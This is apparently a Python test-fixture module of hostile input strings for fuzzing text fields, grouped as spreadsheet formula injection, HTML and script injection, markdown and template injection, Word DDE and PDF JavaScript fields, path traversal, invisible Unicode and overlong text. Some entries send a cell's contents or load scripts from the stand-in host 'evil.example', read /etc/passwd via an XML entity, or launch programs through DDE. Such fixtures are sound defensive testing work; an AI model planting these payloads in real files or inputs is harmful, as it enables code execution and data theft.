"""What nobody should be able to do harm with, by name; each is put into every place that people type in."""

from __future__ import annotations

LONGEST = 10_000

FORMULAS = {
    "formula": "=1+2",
    "formula with a program": "=cmd|' /C calc'!A0",
    "formula with a link": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "formula after plus": "+1+cmd|' /C calc'!A0",
    "formula after minus": "-2+3+cmd|' /C calc'!A0",
    "formula after at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after tab": "\t=1+2",
    "formula after carriage return": "\r=1+2",
    "formula after line feed": "\n=1+2",
    "formula after spaces": "  \u00a0=1+2",
    "formula after apostrophe": "'=1+2",
    "formula in full width": "＝1+2",
    "formula after something unseen": "\u200b\u202e=1+2",
    "cells that end": '","=1+2","',
    "rows that end": '"\r\n=1+2,"',
    "another separator": ";=1+2;\t=1+2",
}
MARKUP = {
    "script": "<script>alert(1)</script>",
    "end of script": "</script><script src=//evil.example/x.js></script>",
    "handler": "\"><img src=x onerror=alert(1)>' onmouseover='alert(1)",
    "drawing": "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg></text></svg>",
    "ends of sections": "]]> <![CDATA[ --> -- <!-- ?> <?x",
    "entities": "&lt;b&gt; &#60;b&#62; &amp;amp; &x; <!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "fetched": "<link rel=stylesheet href=//evil.example> <base href=//evil.example> <style>@import 'x'",
    "end of title": "</title></style></textarea><iframe src=//evil.example></iframe>",
    "templates": "{{ 7*7 }} {% load x %} ${7*7} #{7*7} <%= 7*7 %>",
}
WIKI = {
    "links": "[click](javascript:alert(1)) ![x](http://evil.example/x.png) [a]: http://evil.example",
    "bare addresses": "http://evil.example www.evil.example a@evil.example <http://evil.example>",
    "fence": '```mermaid\nclick A href "javascript:alert(1)"\n```\n~~~',
    "end of mermaid": '"]; click A call alert(1)\n%%{init: {"securityLevel": "loose"}}%%',
    "bars": "| a | b |\n|---|---|\n| c | d |",
    "heading": "# Heading\n\nNot recommended\n===",
    "list": "- list\n  1. number\n> quote",
    "indented": "    code\n\tcode",
    "emphasis": "*a* __b__ ~~c~~ `d` \\*e\\* \\",
    "wiki words": "@somebody #123 $x^2$ :smile: {{toc}} [[Page]]",
    "comment of ours": "<!-- fourways:1 [] -->",
}
TYPESETTING = {
    "typst": '#import "x.typ" #eval("1") $ x $ @s1 <l> = H // c /* d */ `r` ~ *b* \\u{1f680}',
    "typst at the start": "#panic()",
    "fields": '{ INCLUDETEXT C:\\\\secrets.txt } { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    "Word's markup": "</w:t></w:r><w:r><w:fldSimple w:instr='DDEAUTO calc'/></w:r><w:r><w:t>",
    "Excel's escape": "_x000D_ _x0041_ _X0041_",
    "PDF's markup": ") /OpenAction << /S /JavaScript /JS (app.alert(1)) >> endobj \\051",
    "places of messages": "%(name)s %s %d %% {name} {0} [이/가] [을/를]",
    "paths": "../../etc/passwd C:\\con\\aux.txt \\\\evil.example\\share file:///etc/passwd",
}
UNSEEN = {
    "control characters": "a\x01b\x07c\x1bd\x7fe\x85f\x9fg",
    "NUL": "a\x00b",
    "lone surrogates": "a\ud800b\udfffc",
    "noncharacters": "a\ufffeb\uffffc\ufdd0d\U0010ffffe",
    "directions": "a\u202ecod.exe\u202c b\u2066c\u2069 d\u200fe\u061cf",
    "no width": "pay\u200bpal a\u2060b \ufeffc",
    "only what is not seen": "\u202e\u200b\u2066",
    "breaks": "one\r\ntwo\rthree\x0bfour\x0cfive\u2028six\u2029seven\n\n\neight",
    "soft hyphens": "pass\u00adword a\u034fb c\uffa0d",
    "tags": "a\U000e0041\U000e007fb \ufff9c\ufffbd",
}
SCRIPTS = {
    "joined emoji": "👨\u200d👩\u200d👧\u200d👦 👍🏽 🏳\ufe0f\u200d🌈",
    "flags": "🇰🇷🇫🇷 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "piled marks": "Z" + "\u0300\u0315\u0338\u0489" * 40 + "algo",
    "Arabic": "مرحبا بالعالم ﷺ",
    "Hebrew": "שלום עולם",
    "Thai": "สวัสดีชาวโลก",
    "Devanagari": "नमस्ते दुनिया क्\u200dष",
    "Tibetan": "བོད་ཡིག་",
    "Hanja": "大韓民國 漢字 葛\U000e0100",
    "kanji": "日本語のテキスト ﾊﾝｶｸ",
    "cuneiform": "𒀀𒀁𒀂 𓀀",
    "private use": "\ue000\uf8ff\U000f0000",
    "unassigned": "\u0378\U0002fffd",
    "old Hangul": "ᄒᆞᆫ글 a\u3164b ㅎㅏㄴ",
    "decomposed": "e\u0301 \u1112\u1161\u11ab",
}
LONG = {
    "one long word": "x" * LONGEST,
    "one long Korean word": "가" * LONGEST,
    "many words": "a formula = " * (LONGEST // 12),
    "many lines": "\n" * (LONGEST - 1) + "=",
    "many emoji": "🚀" * LONGEST,
}
#: All of them by name.
TEXTS = FORMULAS | MARKUP | WIKI | TYPESETTING | UNSEEN | SCRIPTS | LONG
